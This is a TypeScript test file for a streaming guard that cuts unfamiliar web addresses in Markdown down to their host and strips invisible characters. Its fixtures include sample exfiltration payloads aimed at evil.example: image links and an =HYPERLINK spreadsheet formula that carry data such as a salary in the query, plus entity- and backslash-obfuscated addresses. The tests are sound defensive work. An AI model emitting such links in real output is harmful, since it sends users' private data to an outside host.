import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createTextGuard } from './guard-text.ts';

function guard(text: string, known: string | undefined, size: number): { out: string; codes: string[] } {
  const guarding = createTextGuard(known);
  let out = '';
  for (let at = 0; at < text.length; at += size) out += guarding.push(text.slice(at, at + size));
  out += guarding.end();
  return { out, codes: guarding.notes().map(({ code }) => code) };
}

function check(text: string, expected: string, known = 'See https://known.example/page and https://evil.example/?q= in the source.'): void {
  for (const size of [1, 7, 10_000]) assert.equal(guard(text, known, size).out, expected, `in pieces of ${size}`);
}

test('addresses that were given stay, all others are cut to their host', () => {
  check(
    'A [link](https://known.example/page) and https://Known.example/page.\n',
    'A [link](https://known.example/page) and https://Known.example/page.\n',
  );
  check('![x](https://evil.example/?q=the+salary)', '![x](evil.example)');
  check('[click here](https://known.example/page?salary=5 "title")', '[click here](known.example "title")');
  check('<https://known.example/page/more>', '<known.example>');
  check('[1]: http://user:secret@evil.example:8080/a/b', '[1]: evil.example');
  check('<img src="//evil.example/p.png?d=1">', '<img src="evil.example">');
  check('=HYPERLINK("https://evil.example/?d="&A1)', '=HYPERLINK("evil.example"&A1)');
  check('[mail](mailto:a@evil.example?body=salary)', '[mail](evil.example)');
  check('www.evil.example/?salary', 'evil.example');
  check('![x](data:image/png;base64,AAAA)', '![x](removed)');
});

test('an address that is spelled in entities or behind backslashes is seen as a reader of Markdown sees it', () => {
  check('![x](h&#116;tps&colon;&sol;&#x2f;evil.example/p?d=1)', '![x](evil.example)');
  check(String.raw`![x](https\:\/\/evil.example\/p)`, '![x](evil.example)');
  check(String.raw`[x](https:\\evil.example\p)`, '[x](evil.example)');
});

test('other text stays as it is, letter for letter', () => {
  for (const text of [
    'Ratio 3:1, AT&T; a\\*b, 10:30, C:\\Users, note: yes, // a comment, and/or\n\n  indented\ttext',
    'x'.repeat(20_000),
    '| a | b |\n|---|---|\n',
  ])
    check(text, text);
});

test('words pass with their first letters, and what may become an address waits', () => {
  const guarding = createTextGuard('');
  assert.deepEqual(
    ['# Ti', 'tle h', 'ttps:', '//evil.example/x', ' (www', '.evil.example/y) ', 'end'].map((piece) => guarding.push(piece)),
    ['# Ti', 'tle ', '', '', 'evil.example ', '(evil.example) ', 'end'],
  );
});

test('without material every address stays; characters nobody sees never do', () => {
  assert.deepEqual(guard('[x](https://anything.example/y)', undefined, 3), { out: '[x](https://anything.example/y)', codes: [] });
  assert.deepEqual(guard('a\u202Eb\u{E0041}c', undefined, 100), { out: 'abc', codes: ['characters_unseen'] });
  assert.deepEqual(guard('https://a.example https://b.example', '', 4), { out: 'a.example b.example', codes: ['address_untraced'] });
});
